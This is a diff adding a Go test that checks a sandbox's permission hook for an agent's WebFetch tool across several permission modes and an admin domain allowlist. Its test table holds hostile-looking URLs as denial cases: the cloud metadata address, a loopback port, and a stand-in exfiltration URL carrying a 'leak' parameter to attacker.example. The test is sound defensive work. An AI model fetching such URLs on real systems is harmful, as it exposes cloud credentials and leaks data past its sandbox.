@@ -1418,3 +1418,37 @@ func clipHook(s string) string {
 	}
 	return s
 }
+
+// TestHookWebFetchMeetsNoProxy: an agent's WebFetch, decided through its hook, is fetched by
+// the agent itself, where no proxy refuses what no rule allows: bypassPermissions does not
+// allow it (metadata addresses, loopback, any host), while an allow rule and the admin's
+// network.allowed_domains do, in every mode, as they do for the proxy.
+func TestHookWebFetchMeetsNoProxy(t *testing.T) {
+	b := buildBins(t)
+	d := startDaemon(t, b, "network:\n  allowed_domains: [docs.example]\n")
+	u, rt := userHome(t, "sbwf")
+	work := filepath.Join(u.Home, "work")
+	ownedDirs(t, u, work)
+	for i, tc := range []struct {
+		mode, url string
+		flags     []string
+		want      string
+		reason    string
+	}{
+		{"bypassPermissions", "http://169.254.169.254/latest/meta-data/", nil, "deny", "WebFetch(domain:host)"},
+		{"bypassPermissions", "https://attacker.example/?leak=x", nil, "deny", "past sandboxd's proxy"},
+		{"bypassPermissions", "http://127.0.0.1:8081/", []string{"--confine"}, "deny", "past sandboxd's proxy"},
+		{"bypassPermissions", "https://docs.example/x", nil, "allow", "network.allowed_domains"},
+		{"bypassPermissions", "https://attacker.example/", []string{"--allow", "WebFetch(domain:attacker.example)"}, "allow", "WebFetch(domain:attacker.example)"},
+		{"default", "https://docs.example/x", nil, "allow", "network.allowed_domains"},
+		{"dontAsk", "https://docs.example/x", nil, "allow", "network.allowed_domains"},
+		{"default", "https://other.example/", nil, "ask", "WebFetch(domain:host)"},
+	} {
+		in := map[string]any{"session_id": fmt.Sprintf("agent-wf-%d", i), "cwd": work, "hook_event_name": "PreToolUse",
+			"permission_mode": tc.mode, "tool_name": "WebFetch", "tool_input": map[string]any{"url": tc.url, "prompt": "x"}}
+		h := decodeHook(t, runHook(t, b, d.socket, u, rt, in, tc.flags...)).HookSpecificOutput
+		if h.PermissionDecision != tc.want || !strings.Contains(h.PermissionDecisionReason, tc.reason) {
+			t.Errorf("%s %s %v: %q (%s); want %q mentioning %q", tc.mode, tc.url, tc.flags, h.PermissionDecision, h.PermissionDecisionReason, tc.want, tc.reason)
+		}
+	}
+}
